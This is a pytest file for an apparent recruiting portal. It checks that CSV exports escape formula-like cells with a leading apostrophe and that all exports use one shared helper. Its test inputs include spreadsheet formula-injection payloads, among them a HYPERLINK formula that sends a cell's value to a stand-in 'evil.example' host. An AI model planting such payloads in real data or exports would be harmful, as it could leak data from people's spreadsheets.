"""Every CSV export is safe to open in a spreadsheet: a cell someone typed that starts like
a formula (= + - @, a tab, a carriage return) is written with a leading apostrophe, in the
comparison and in the audit log alike, and every export writes through one helper."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta
from pathlib import Path

import pytest

from portal.feedback import services as fb
from portal.timeutil import utcnow
from tests.conftest import csrf_from
from tests.factories import CandidateFactory, UserFactory, make_application, make_interview
from tests.feedback.test_views import _form, client_for

NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+SUM(1+1)", "-2+3",
         "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_START), cell


@pytest.mark.parametrize("name", NAMES)
def test_comparison_export_escapes_typed_cells(app, ctx, name):
    recruiter = UserFactory(email="rec@example.com", role="recruiter")
    rater = UserFactory(email="rater@example.com", role="interviewer", name=name)
    application = make_application(recruiter, CandidateFactory(name=name))
    kit = fb.create_starter_kit(ctx, recruiter, application.opening)
    kit.competencies[0].name = name
    interview = make_interview(recruiter, application, interviewers=[rater])
    interview.kit_id = kit.id
    interview.starts_at = utcnow() - timedelta(hours=2)
    ctx.commit()
    url = f"/staff/interviews/{interview.id}/scorecard"
    client = client_for(app, "rater@example.com")
    assert client.post(url, data=_form(kit, 3, csrf_from(client.get(url).text),
                                       "submit")).status_code in (200, 303)

    text = client_for(app, "rec@example.com").get(
        f"/staff/openings/{application.opening_id}/compare.csv").text
    rows = _cells(text)
    _assert_no_formula(rows)
    assert rows[0][2] == "'" + name  # the competency, typed by staff
    assert rows[1][0] == "'" + name  # the candidate
    assert rows[1][1] == "3.0"  # numbers stay numbers
    assert rows[1][-1] == f"'{name}: yes"  # the rater's name leads the cell


@pytest.mark.parametrize("name", NAMES)
def test_audit_log_export_escapes_names(app, ctx, name):
    UserFactory(email="admin@example.com", role="admin", name=name)
    recruiter = UserFactory(role="recruiter")
    application = make_application(recruiter, CandidateFactory(name=name))
    ctx.commit()
    admin = client_for(app, "admin@example.com")
    assert admin.get(f"/staff/candidates/{application.candidate_id}").status_code == 200
    text = admin.get(f"/staff/audit?candidate={application.candidate_id}&format=csv").text
    rows = _cells(text)
    _assert_no_formula(rows)
    viewed = next(r for r in rows if r[3] == "viewed")
    assert viewed[5] == "'" + name and viewed[6] == "'" + name


def test_every_csv_export_writes_through_the_shared_helper():
    """The class stays closed: no module writes CSV except through portal.csvsafe."""
    root = Path(__file__).resolve().parents[1] / "portal"
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "csvsafe.py" and raw.search(p.read_text(encoding="utf-8"))]
    assert offenders == []
